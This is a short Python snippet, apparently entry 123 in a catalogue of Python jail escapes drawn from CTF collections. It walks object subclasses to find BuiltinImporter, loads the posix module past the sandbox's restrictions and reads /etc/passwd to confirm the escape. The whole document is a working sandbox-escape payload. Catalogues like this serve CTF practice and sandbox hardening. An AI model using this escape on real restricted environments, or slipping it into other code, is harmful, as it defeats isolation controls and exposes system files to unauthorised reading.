# escape: 123
# technique: BuiltinImporter class found by the subclass walk, load_module('posix')
# family: subclasses
# goal: read-file
# first-seen: jailctf/pyjailbreaker; pyjail-collection 'prison'
for c in object.__subclasses__():
    if c.__name__ == 'BuiltinImporter':
        m = c.load_module('posix')
        s = m.read(m.open('/etc/passwd', 0), 40)
        if b'root:' in s: print('ESCAPED:', s[:10])
